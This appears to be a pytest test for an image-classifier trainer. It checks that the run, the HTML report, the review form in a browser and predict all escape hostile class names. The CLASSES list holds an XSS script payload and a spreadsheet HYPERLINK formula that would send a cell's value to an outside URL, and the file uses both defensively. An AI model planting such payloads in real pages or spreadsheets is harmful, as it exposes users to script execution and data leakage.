"""One training whose class names are all hostile ones the name rule accepts (HTML, script, a
spreadsheet formula, mathtext, a number with a sign): the run, its report, the review form's file
in a real browser and predict all keep each name as it is, and none of them runs anything or
draws it as anything else."""

from __future__ import annotations

import csv
import time

import pytest
from PIL import Image

from tests.conftest import run_module, train_args
from tests.diagnostics.test_review import browser  # noqa: F401 - the fixture, shared
from trainer import cells, runfolder
from trainer.data.corrections import read_corrections

pytestmark = pytest.mark.slow

CLASSES = ["<script>alert(1)</script>", '=HYPERLINK("http://x/?"&A2,"click")', "$\\frac{$ a$b$c", "-1"]


def _dataset(folder):
    folder.mkdir(parents=True)
    rows = []
    for index, label in enumerate(CLASSES):
        for copy in range(6):
            name = f"{index}-{copy}.png"
            Image.new("RGB", (48, 48), (60 * index, 30 * copy, 200 - 40 * index)).save(folder / name)
            rows.append([name, label])
    with (folder / "data.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ImagePath", "Label"])
        writer.writerows(rows)
    return folder


def test_hostile_class_names_through_the_run_the_report_the_form_and_predict(browser, cli, tmp_path):  # noqa: F811
    """The run and predict in this process, whose TensorFlow is loaded already."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    images = _dataset(tmp_path / "Images")
    run = tmp_path / "run"
    code, _, err = cli(*train_args(images, csv="data.csv", epochs=2, output=run, workspace=tmp_path / "ws"))
    assert code == 0, err[-3000:]
    assert runfolder.read_labels([run / "labels.txt"], run) == sorted(CLASSES)

    # The spreadsheet-facing files hold each name safely and give it back as it was.
    raw = (run / "predictions.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw
    assert {row["label"] for row in runfolder.read_predictions(run / "predictions.csv")} <= set(CLASSES)

    # The report: every name escaped, no script of ours or anyone's runs; the review form offers
    # each name as a choice (an audit row written by hand, as tests/diagnostics/test_review.py does).
    split = list(csv.DictReader((run / "split.csv").open(encoding="utf-8")))
    first = next(row for row in split if row["Split"] == "train" and row["Label"] == CLASSES[3])
    runfolder.write_audit(run / "audit.csv", [{"ImagePath": first["ImagePath"], "Label": first["Label"],
                                               "SuggestedLabel": CLASSES[1], "Score": "0.9100", "Reason": "label",
                                               "Group": ""}])  # fmt: skip
    assert run_module("report", run).returncode == 0
    page = (run / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    browser.get((run / "report.html").as_uri())
    assert browser.execute_script("return document.title") is not None  # the page loaded; no alert blocked it
    select = Select(browser.find_element(By.CSS_SELECTOR, "table.review tr[data-path] select"))
    assert {option.text for option in select.options} >= {f"relabel to {name}" for name in CLASSES[:3]}
    select.select_by_value(CLASSES[1])
    browser.find_element(By.ID, "review-download").click()
    saved = browser.downloads / "corrections.csv"
    deadline = time.monotonic() + 30
    while not (saved.is_file() and saved.stat().st_size) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert "'=HYPERLINK" in saved.read_text(encoding="utf-8")  # safe to open in a spreadsheet
    [decision] = read_corrections(saved)
    assert decision.label == CLASSES[1] and decision.written == first["ImagePath"]  # and read back as it was

    # predict: its CSV names the class safely, and reads back to one of the names.
    code, predicted, err = cli("predict", "--model", run, images / "1-0.png")
    assert code == 0, err
    [header, row] = list(cells.read_rows(predicted.splitlines()))
    assert header[:2] == ["ImagePath", "PredictedLabel"] and row[1] in CLASSES
